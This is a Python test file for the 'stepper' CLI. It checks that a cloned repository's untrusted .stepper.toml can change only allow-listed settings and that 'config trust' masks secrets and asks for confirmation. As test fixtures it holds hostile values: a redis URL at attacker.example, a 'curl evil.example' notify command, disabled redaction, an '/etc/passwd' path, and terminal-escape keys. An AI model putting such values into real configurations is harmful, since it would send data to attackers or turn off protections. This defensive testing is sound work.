"""A cloned repository's .stepper.toml, untrusted, sets only the allow-list; everything else is ignored with one
warning line; `stepper config trust` shows what the file would turn on and asks before it records anything."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest

from stepper_cli.config.allowlist import ALLOWED
from stepper_cli.config.load import load_settings
from stepper_cli.config.settings import PROMPT_STYLES
from stepper_cli.generate.prompt import BUILTIN
from tests.support.cli_run import stepper
from tests.support.gitutil import GitRepo

ROOT = Path(__file__).resolve().parents[2]
DEFAULT_EXCLUDE = ["*.lock", "package-lock.json", "*.min.js", "vendor/**"]

ATTACKS = {
    "queue.url": ('[queue]\nurl = "redis://attacker.example:6379/0"\n', lambda s: s.queue.url == ""),
    "evidence.redact": ("[evidence]\nredact = false\n", lambda s: s.evidence.redact is True),
    "evidence.exclude": ("[evidence]\nexclude = []\n", lambda s: s.evidence.exclude == DEFAULT_EXCLUDE),
    "evidence.max_diff_bytes": (
        "[evidence]\nmax_diff_bytes = 1000000000\n",
        lambda s: s.evidence.max_diff_bytes == 49152,
    ),
    "breaker.failure_threshold": (
        "[breaker]\nfailure_threshold = 1\ncooldown_seconds = 3600\n",
        lambda s: (s.breaker.failure_threshold, s.breaker.cooldown_seconds) == (5, 60),
    ),
    "retry.max_attempts": ("[retry]\nmax_attempts = 20\n", lambda s: s.retry.max_attempts == 3),
    "cache.ttl_seconds": ("[cache]\nttl_seconds = 0\n", lambda s: s.cache.ttl_seconds == 604800),
    "notes.ref": ('[notes]\nref = "refs/heads/main"\nworker = true\n', lambda s: s.notes.ref == "refs/notes/stepper"),
    "notify.command": ('[notify]\ncommand = "curl evil.example"\n', lambda s: s.notify.command == ""),
    "providers": ("[[providers]]\nname = 'x'\nkind = 'ollama'\n", lambda s: s.providers == []),
}


def repo_file(repo: GitRepo, text: str) -> Path:
    path = repo.path / ".stepper.toml"
    path.write_text(text)
    return path


def user_config(text: str) -> Path:
    path = Path(os.environ["XDG_CONFIG_HOME"]) / "stepper" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.mark.parametrize("key", list(ATTACKS))
def test_each_key_beyond_the_allow_list_is_ignored_with_one_warning_naming_it(repo: GitRepo, key: str) -> None:
    text, holds = ATTACKS[key]
    repo_file(repo, text)
    loaded = load_settings(repo.path)
    assert holds(loaded.settings), key
    assert len(loaded.warnings) == 1 and "\n" not in loaded.warnings[0]
    assert key in loaded.warnings[0] and "stepper config trust" in loaded.warnings[0]


def test_all_of_them_at_once_give_one_line_on_stderr_and_a_local_report(repo: GitRepo) -> None:
    repo.commit("feat: a", ("a.py", "a = 1\n"))
    others = "".join(text for key, (text, _) in ATTACKS.items() if not key.startswith("evidence."))
    repo_file(repo, "[evidence]\nredact = false\nexclude = []\nmax_diff_bytes = 1000000000\n" + others)
    out = stepper("report", "--offline", "--format", "json", cwd=repo.path)
    assert out.code == 0, out.err
    assert len(out.err.strip().splitlines()) == 1 and "stepper config trust" in out.err
    assert json.loads(out.out)["provider"] == "local"


def test_allowed_keys_apply_by_their_rules(repo: GitRepo) -> None:
    user_config("[evidence]\nexclude = ['*.pem']\nmax_diff_bytes = 8192\n[[providers]]\nname = 'p'\nkind = 'ollama'\n")
    repo_file(repo, "[evidence]\nexclude = ['*.snap', '*.pem']\nmax_diff_bytes = 4096\n"
                    "[prompt]\nstyle = 'simple'\n[hook]\nmode = 'report'\nskip_during_rebase = true\n")  # fmt: skip
    loaded = load_settings(repo.path)
    s = loaded.settings
    assert s.evidence.exclude == ["*.pem", "*.snap"] and s.evidence.max_diff_bytes == 4096
    assert s.hook.mode == "report" and s.hook.skip_during_rebase and s.providers[0].prompt == "simple"
    assert loaded.warnings == []


def test_a_larger_budget_is_ignored_and_named(repo: GitRepo) -> None:
    user_config("[evidence]\nmax_diff_bytes = 8192\n")
    repo_file(repo, "[evidence]\nmax_diff_bytes = 65536\n")
    loaded = load_settings(repo.path)
    assert loaded.settings.evidence.max_diff_bytes == 8192
    assert "evidence.max_diff_bytes (it may only lower it)" in loaded.warnings[0]


def test_prompt_style_keeps_a_template_file_and_refuses_a_path(repo: GitRepo, tmp_path: Path) -> None:
    template = tmp_path / "mine.txt"
    template.write_text("Describe the commit.\n")
    user_config(f"[[providers]]\nname = 'p'\nkind = 'ollama'\nprompt = '{template}'\n")
    repo_file(repo, "[prompt]\nstyle = 'simple'\n")
    assert load_settings(repo.path).settings.providers[0].prompt == str(template)
    repo_file(repo, "[prompt]\nstyle = '/etc/passwd'\n")
    out = stepper("report", "--offline", cwd=repo.path)
    assert out.code == 4 and "prompt.style" in out.err and ".stepper.toml" in out.err


def test_prompt_styles_are_the_built_in_templates() -> None:
    assert PROMPT_STYLES == BUILTIN


def test_stepper_variables_still_apply_over_an_untrusted_file(repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    repo_file(repo, '[queue]\nurl = "redis://attacker.example/0"\n[evidence]\nmax_diff_bytes = 2048\n')
    monkeypatch.setenv("STEPPER_QUEUE__URL", "redis://127.0.0.1:6379/3")
    monkeypatch.setenv("STEPPER_EVIDENCE__MAX_DIFF_BYTES", "100000")
    monkeypatch.setenv("STEPPER_BREAKER__COOLDOWN_SECONDS", "5")
    loaded = load_settings(repo.path)
    s = loaded.settings
    assert (s.queue.url, s.evidence.max_diff_bytes, s.breaker.cooldown_seconds) == (
        "redis://127.0.0.1:6379/3",
        100000,
        5,
    )
    assert loaded.sources["queue.url"] == "env STEPPER_QUEUE__URL"


def test_the_warning_is_one_printable_line_whatever_the_keys(repo: GitRepo) -> None:
    keys = ['"a\\nb"', '"\\u001b]52;c;aGk=\\u0007"', '"\\u202eevil"'] + [f"k{i}" for i in range(30)]
    repo_file(repo, "".join(f"{k} = 1\n" for k in keys))
    (warning,) = load_settings(repo.path).warnings
    assert warning.isprintable() and "\x1b" not in warning and "and 25 more" in warning


def test_the_readme_trust_section_lists_the_allow_list() -> None:
    readme = (ROOT / "README.md").read_text()
    section = readme.split("### Trust", 1)[1].split("\n## ", 1)[0]
    for key in ALLOWED:
        assert f"`{key}`" in section, key


SHOWN = '[queue]\nurl = "redis://:hunter2@attacker.example:6379/0"\n[notify]\nwebhook = "https://hooks.example/T0/SECRETPATH"\n'


def test_trust_without_a_terminal_or_yes_is_exit_2_and_trusts_nothing(repo: GitRepo) -> None:
    repo_file(repo, SHOWN)
    out = stepper("config", "trust", cwd=repo.path)
    assert out.code == 2 and "--yes" in out.err and "Traceback" not in out.err
    assert "queue.url" in out.out and "hunter2" not in out.out and "SECRETPATH" not in out.out
    assert load_settings(repo.path).settings.queue.url == ""


def test_trust_yes_json_lists_what_it_turned_on_masked(repo: GitRepo) -> None:
    path = repo_file(repo, SHOWN + "[evidence]\nexclude = ['*.snap']\n")
    out = stepper("config", "trust", "--yes", "--json", cwd=repo.path)
    assert out.code == 0, out.err
    data = json.loads(out.out)
    assert data["trusted"] is True and data["file"] == str(path)
    turned = {item["key"]: item for item in data["turns_on"]}
    assert set(turned) == {"queue.url", "notify.webhook", "evidence.exclude"}
    assert turned["queue.url"]["value"] == "redis://:***@attacker.example:6379/0"
    assert turned["notify.webhook"]["value"] == "https://hooks.example/***"
    assert "instead of adding" in turned["evidence.exclude"]["note"]
    s = load_settings(repo.path).settings
    assert s.queue.url.startswith("redis://") and s.evidence.exclude == ["*.snap"]  # trusted: lists replace


def test_a_file_within_the_allow_list_is_trusted_without_asking(repo: GitRepo) -> None:
    repo_file(repo, "[hook]\nmode = 'report'\n")
    out = stepper("config", "trust", cwd=repo.path)
    assert out.code == 0 and "Trusted" in out.out, out.err


def test_trust_refuses_a_file_that_would_break_every_command(repo: GitRepo) -> None:
    repo_file(repo, "[queue]\nconcurrency = 0\n")
    out = stepper("config", "trust", "--yes", cwd=repo.path)
    assert out.code == 4 and "queue.concurrency" in out.err
    assert "[queue]" not in (Path(os.environ["STEPPER_HOME"]) / "trust.json").read_text() if (
        Path(os.environ["STEPPER_HOME"]) / "trust.json").exists() else True  # fmt: skip


def _trust_on_a_terminal(repo: GitRepo, answer: bytes) -> str:
    """Run `stepper config trust` with a pseudo-terminal as stdin, answer the question, return its output."""
    main, child = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "stepper_cli", "config", "trust"], cwd=repo.path, stdin=child,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip
    os.close(child)
    os.write(main, answer)
    out, err = proc.communicate(timeout=60)
    os.close(main)
    assert proc.returncode == 0, err
    return out.decode() + err.decode()


@pytest.mark.parametrize(("answer", "applies"), [(b"n\n", False), (b"y\n", True)])
def test_on_a_terminal_trust_shows_the_keys_then_asks(repo: GitRepo, answer: bytes, applies: bool) -> None:
    repo_file(repo, SHOWN)
    text = _trust_on_a_terminal(repo, answer)
    assert "queue.url" in text and "Trust it?" in text and "hunter2" not in text
    assert re.search("Trusted" if applies else "Not trusted", text), text
    assert (load_settings(repo.path).settings.queue.url != "") is applies


def test_trust_is_per_path_a_link_to_a_trusted_file_is_not_trusted(repo: GitRepo, tmp_path: Path) -> None:
    repo_file(repo, SHOWN)
    assert stepper("config", "trust", "--yes", cwd=repo.path).code == 0
    other = GitRepo.init(tmp_path / "other")
    (other.path / ".stepper.toml").symlink_to(repo.path / ".stepper.toml")
    assert load_settings(other.path).settings.queue.url == ""
    assert load_settings(repo.path).settings.queue.url != ""


def test_a_repository_file_linked_to_something_huge_is_refused_not_read(repo: GitRepo, tmp_path: Path) -> None:
    huge = tmp_path / "huge.toml"
    with huge.open("wb") as fh:
        fh.truncate(64 << 20)  # sparse: 64 MiB of NULs
    (repo.path / ".stepper.toml").symlink_to(huge)
    repo.commit("feat: a", ("a.py", "a = 1\n"))
    out = stepper("report", "--offline", cwd=repo.path)
    assert out.code == 4 and "larger than" in out.err and "Traceback" not in out.err
